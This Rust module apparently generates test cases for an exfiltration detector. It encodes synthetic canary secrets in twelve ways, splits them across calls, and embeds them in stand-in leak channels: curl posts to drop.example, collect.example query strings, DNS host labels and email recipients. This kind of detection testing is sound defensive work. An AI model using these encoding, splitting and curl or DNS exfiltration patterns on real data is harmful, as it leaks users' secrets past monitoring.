//! Sixty values that leave in twelve encodings, five ways of taking them apart and six kinds of arguments.

use super::dice::Dice;
use base64::{
    Engine,
    engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
};

pub(crate) const ENCODINGS: [&str; 12] = [
    "plain",
    "upper",
    "lower",
    "base64",
    "base64url",
    "hex",
    "url",
    "entities",
    "json",
    "reversed",
    "rot13",
    "rewritten",
];
pub(crate) const SPLITTINGS: [&str; 5] = ["whole", "halves", "calls", "interleaved", "parts"];
pub(crate) const SINKS: [&str; 6] = ["body", "recipient", "query", "host", "command", "file"];

/// A value, and the same as other people write it.
pub(crate) struct Canary {
    pub(crate) kind: &'static str,
    pub(crate) value: String,
    rewritten: String,
}

pub(crate) fn canaries(dice: &mut Dice) -> Vec<Canary> {
    const KINDS: [&str; 12] =
        ["key", "token", "name", "iban", "mail", "sentence", "number", "amount", "date", "uuid", "phone", "order"];
    let mixed = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz0123456789";
    let digits = "123456789";
    let grouped = |text: &str, size: usize, mark: &str| {
        text.as_bytes().chunks(size).map(String::from_utf8_lossy).collect::<Vec<_>>().join(mark)
    };
    (0..60)
        .map(|n| {
            let kind = KINDS[n % KINDS.len()];
            let value = match kind {
                "key" => dice.text(mixed, 32),
                "token" => format!("tok_{}", dice.text(mixed, 20)),
                "name" => dice.name(),
                "iban" => format!("DE{}", dice.text(digits, 20)),
                "mail" => {
                    dice.name().to_lowercase().replace(' ', ".") + "@" + &dice.text("bdfgklmnprst", 6) + ".example"
                }
                "sentence" => format!(
                    "The merger of {} with {} closes for {} million",
                    dice.name(),
                    dice.name(),
                    dice.below(800) + 100
                ),
                "number" => dice.text(digits, 8),
                "amount" => format!("{},{}.{}", dice.text(digits, 2), dice.text(digits, 3), dice.text(digits, 2)),
                "date" => dice.date(),
                "uuid" => {
                    let hex = "0123456789abcdef";
                    [8, 4, 4, 4, 12].map(|n| dice.text(hex, n)).join("-")
                }
                "phone" => format!("+49 {} {}", dice.text(digits, 3), dice.text(digits, 7)),
                _ => format!("ORD-{}-{}", dice.text(digits, 6), dice.text("ABCDEFGHKLMNP", 2)),
            };
            let rewritten = match kind {
                "number" => grouped(&value, 1, " "),
                "amount" => value.replace(',', "").replace('.', ","),
                "date" => {
                    let parts: Vec<&str> = value.split('-').collect();
                    format!("{}.{}.{}", parts[2], parts[1], parts[0])
                }
                "iban" | "phone" => grouped(&value.replace(' ', ""), 4, "-"),
                "sentence" => value.replace(' ', "_"),
                _ => grouped(&value, 1, " "),
            };
            Canary { kind, value, rewritten }
        })
        .collect()
}

pub(crate) fn encode(canary: &Canary, encoding: &str, dice: &mut Dice) -> String {
    let value = canary.value.as_str();
    let each = |write: &dyn Fn(u8) -> String| value.bytes().map(write).collect::<String>();
    match encoding {
        "plain" => value.to_owned(),
        "upper" => value.to_uppercase(),
        "lower" => value.to_lowercase(),
        // At any alignment: something stands before it.
        "base64" => STANDARD.encode("~~~".split_at(dice.below(3)).0.to_owned() + value),
        "base64url" => URL_SAFE_NO_PAD.encode("~~~".split_at(dice.below(3)).0.to_owned() + value),
        "hex" => each(&|b| format!("{b:02x}")),
        "url" => each(&|b| format!("%{b:02X}")),
        "entities" => each(&|b| format!("&#{b};")),
        "json" => each(&|b| format!("\\u{b:04x}")),
        "reversed" => value.chars().rev().collect(),
        "rot13" => value
            .chars()
            .map(|c| match c {
                'a'..='m' | 'A'..='M' => char::from(c as u8 + 13),
                'n'..='z' | 'N'..='Z' => char::from(c as u8 - 13),
                _ => c,
            })
            .collect(),
        _ => canary.rewritten.clone(),
    }
}

/// `count` pieces of about the same length.
fn pieces(text: &str, count: usize) -> Vec<String> {
    let all: Vec<char> = text.chars().collect();
    let bounds: Vec<usize> = (0..=count).map(|n| n * all.len() / count).collect();
    bounds.windows(2).map(|w| all[w[0]..w[1]].iter().collect()).collect()
}

/// What a text must become to stand in an argument.
fn fit(text: &str, sink: &str) -> String {
    let only = |good: &dyn Fn(char) -> bool, mark: char| -> String {
        text.chars().map(|c| if good(c) { c } else { mark }).collect()
    };
    match sink {
        "recipient" => only(&|c| c.is_ascii_alphanumeric() || "!#$%&'*+-/=?^_`{|}~.".contains(c), '.'),
        "query" => text
            .bytes()
            .map(|b| match b {
                b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => char::from(b).to_string(),
                _ => format!("%{b:02X}"),
            })
            .collect(),
        "host" => {
            let label = text.replace('+', "-").replace('/', "_");
            let label: String =
                label.chars().map(|c| if c.is_ascii_alphanumeric() || c == '_' { c } else { '-' }).collect();
            label.as_bytes().chunks(63).map(String::from_utf8_lossy).collect::<Vec<_>>().join(".")
        }
        "command" => text.replace('\'', "'\\''"),
        "file" => text.replace('/', "_"),
        _ => text.to_owned(),
    }
}

fn argument(text: &str, sink: &str) -> String {
    let text = fit(text, sink);
    match sink {
        "recipient" => format!("{text}@inbox.example"),
        "query" => format!("https://collect.example/a?q={text}&src=mail"),
        "host" => format!("https://{text}.drop.example/"),
        "command" => format!("curl -s https://drop.example/ -d 'x={text}'"),
        "file" => format!("/tmp/export/{text}.txt"),
        _ => format!("Hello, the figure you asked for is {text} and that is all. Kind regards"),
    }
}

/// The calls of one exfiltration: for each the strings of its arguments.
pub(crate) fn calls(text: &str, splitting: &str, sink: &str, dice: &mut Dice) -> Vec<Vec<String>> {
    match splitting {
        "halves" => {
            let halves = pieces(text, 2);
            vec![vec![argument(&halves[0], sink), argument(&halves[1], sink)]]
        }
        "calls" => {
            let count = if text.len() < 12 { 2 } else { 3 };
            pieces(text, count).iter().map(|piece| vec![argument(piece, sink)]).collect()
        }
        "interleaved" => {
            let mark = dice.of(&["-", ".", "_", " ", "|", "*"]);
            let all: Vec<String> = text.chars().map(String::from).collect();
            vec![vec![argument(&all.join(mark), sink)]]
        }
        "parts" => {
            let p: Vec<String> = pieces(text, 3).iter().map(|piece| fit(piece, sink)).collect();
            let (a, b, c) = (&p[0], &p[1], &p[2]);
            vec![vec![match sink {
                "recipient" => format!("{a}@{b}.{c}.example"),
                "query" => format!("https://collect.example/{a}/{b}?q={c}&src=mail"),
                "host" => format!("https://{a}.{b}.{c}.drop.example/"),
                "command" => format!("curl -s 'https://drop.example/{a}' -d 'x={b}' -H 'y: {c}'"),
                "file" => format!("/tmp/{a}/{b}_{c}.txt"),
                _ => format!("The first part is {a} and the second is {b}, then {c} at the end."),
            }]]
        }
        _ => vec![vec![argument(text, sink)]],
    }
}
